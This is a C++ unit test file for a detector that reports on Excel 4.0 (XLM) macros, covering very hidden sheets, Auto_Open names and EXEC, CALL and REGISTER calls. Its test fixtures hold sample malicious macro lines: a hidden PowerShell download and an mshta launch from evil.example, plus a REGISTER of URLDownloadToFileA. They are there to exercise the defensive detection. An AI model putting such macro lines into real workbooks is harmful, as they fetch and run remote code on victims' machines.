// report_xlm: findings, facts and text from what the readers found.
#include "formats/xls/xlm_report.h"

#include <gtest/gtest.h>

#include "core/testing/recording_context.h"

namespace lg::xls {
namespace {

using testing::RecordingContext;

XlmMacros sample(SheetState state) {
  XlmMacros m;
  m.source = "Workbook";
  m.sheets = {{"Sheet1", SheetState::kVisible, false}, {"Kx", state, true}};
  m.names = {{"Auto_Open", "Kx!$A$1", true}, {"Print_Area", "Sheet1!$A$1:$B$2", true}};
  m.cells = {{"Kx", "A1", "EXEC(\"powershell -w hidden iwr http://evil.example/a.ps1\")", {}},
             {"Kx", "A2", "HALT()", {}}};
  m.formula_count = 2;
  return m;
}

TEST(XlmReport, AutoOpenExecOnVeryHiddenSheet) {
  RecordingContext ctx;
  report_xlm(sample(SheetState::kVeryHidden), ctx);
  EXPECT_TRUE(ctx.has(Symbol::XLM_MACRO_SHEET));
  EXPECT_TRUE(ctx.has(Symbol::XLM_VERY_HIDDEN_SHEET));
  EXPECT_FALSE(ctx.has(Symbol::XLM_HIDDEN_SHEET));
  EXPECT_TRUE(ctx.has(Symbol::XLM_AUTO_OPEN));
  ASSERT_TRUE(ctx.has(Symbol::XLM_EXECUTE));
  for (const auto& f : ctx.findings) {
    if (f.symbol == Symbol::XLM_EXECUTE) {
      EXPECT_EQ(f.evidence.value,
                "Kx!A1: =EXEC(\"powershell -w hidden iwr http://evil.example/a.ps1\")");
      EXPECT_EQ(f.evidence.detail, "EXEC starts a program");
    }
    if (f.symbol == Symbol::XLM_AUTO_OPEN) {
      EXPECT_EQ(f.evidence.value, "Auto_Open -> Kx!$A$1");
    }
  }
  const std::string text = ctx.all_text(TextKind::kMacro);
  EXPECT_NE(text.find("Kx!A1: =EXEC(\"powershell"), std::string::npos);
  EXPECT_NE(text.find("Name Auto_Open: =Kx!$A$1"), std::string::npos);
  EXPECT_EQ(ctx.num("xlm_formula_count"), 2);
}

// Cached string results and string constants are macro text (the detectors find the URL and
// the command there); an empty constant makes no line.
TEST(XlmReport, ValuesAndConstantsAreText) {
  XlmMacros m = sample(SheetState::kVisible);
  m.cells = {{"Kx", "A1", "EXEC(B1)", "mshta http://evil.example/x.hta"},
             {"Kx", "B1", {}, "http://evil.example/x.hta"},
             {"Kx", "C1", {}, {}}};
  RecordingContext ctx;
  report_xlm(m, ctx);
  const std::string text = ctx.all_text(TextKind::kMacro);
  EXPECT_NE(text.find("Kx!A1: =EXEC(B1) -> mshta http://evil.example/x.hta\n"), std::string::npos);
  EXPECT_NE(text.find("Kx!B1: http://evil.example/x.hta\n"), std::string::npos);
  EXPECT_EQ(text.find("Kx!C1"), std::string::npos);
  EXPECT_TRUE(ctx.has(Symbol::XLM_EXECUTE));
}

TEST(XlmReport, HiddenAndVisibleSheets) {
  RecordingContext hidden, visible;
  report_xlm(sample(SheetState::kHidden), hidden);
  EXPECT_TRUE(hidden.has(Symbol::XLM_HIDDEN_SHEET));
  EXPECT_FALSE(hidden.has(Symbol::XLM_VERY_HIDDEN_SHEET));
  report_xlm(sample(SheetState::kVisible), visible);
  EXPECT_FALSE(visible.has(Symbol::XLM_HIDDEN_SHEET));
  EXPECT_FALSE(visible.has(Symbol::XLM_VERY_HIDDEN_SHEET));
  EXPECT_TRUE(visible.has(Symbol::XLM_MACRO_SHEET));
}

TEST(XlmReport, NoMacroSheetNoFindings) {
  XlmMacros m;
  m.sheets = {{"Sheet1", SheetState::kHidden, false}};
  m.names = {{"Auto_Open", "Sheet1!$A$1", true}};
  RecordingContext ctx;
  report_xlm(m, ctx);
  EXPECT_TRUE(ctx.findings.empty());
  m.encrypted = true;
  report_xlm(m, ctx);
  EXPECT_NE(ctx.str("xlm_unread"), "<missing>");
}

TEST(XlmReport, AutoNamePointingToAWorksheetIsNotAutoOpen) {
  XlmMacros m = sample(SheetState::kVisible);
  m.names = {{"Auto_Open", "Sheet1!$A$1", true}};
  RecordingContext ctx;
  report_xlm(m, ctx);
  EXPECT_FALSE(ctx.has(Symbol::XLM_AUTO_OPEN));
}

TEST(XlmReport, AutoNames) {
  EXPECT_TRUE(is_auto_name("Auto_Open"));
  EXPECT_TRUE(is_auto_name("auto_open2839"));
  EXPECT_TRUE(is_auto_name("AUTO_CLOSE"));
  EXPECT_TRUE(is_auto_name("Auto_Öffnen"));
  EXPECT_TRUE(is_auto_name("AUTO_ÖFFNEN"));
  EXPECT_TRUE(is_auto_name("Auto_ouvrir"));
  EXPECT_FALSE(is_auto_name("Print_Area"));
  EXPECT_FALSE(is_auto_name("AutoOpen"));
}

TEST(XlmReport, ExecuteCallsOutsideStrings) {
  EXPECT_EQ(first_execute_call("EXEC(\"calc\")"), "EXEC");
  EXPECT_EQ(first_execute_call("IF(A1,CALL(\"k\",\"W\",\"JCJ\",\"x\",0),0)"), "CALL");
  EXPECT_EQ(first_execute_call("register.id(\"a\",\"b\")"), "register.id");
  EXPECT_EQ(first_execute_call("RUN(Kx!$A$5)"), "RUN");
  EXPECT_EQ(first_execute_call("ALERT(\"EXEC(x)\")"), "");
  EXPECT_EQ(first_execute_call("RUNNER(1)+XEXEC(2)"), "");
  EXPECT_EQ(first_execute_call("HALT()"), "");
}

TEST(XlmReport, RegisterOfUrlDownloadToFileNamesTheApi) {
  XlmMacros m = sample(SheetState::kVisible);
  m.cells = {{"Kx", "A1", "REGISTER(\"URLMON\",\"URLDownloadToFileA\",\"JJCCJJ\",\"D\")", {}}};
  RecordingContext ctx;
  report_xlm(m, ctx);
  bool seen = false;
  for (const auto& f : ctx.findings)
    if (f.symbol == Symbol::XLM_EXECUTE) {
      seen = true;
      EXPECT_EQ(f.evidence.detail, "REGISTER calls a DLL function (Win32 API urldownloadtofile)");
    }
  EXPECT_TRUE(seen);
}

}  // namespace
}  // namespace lg::xls
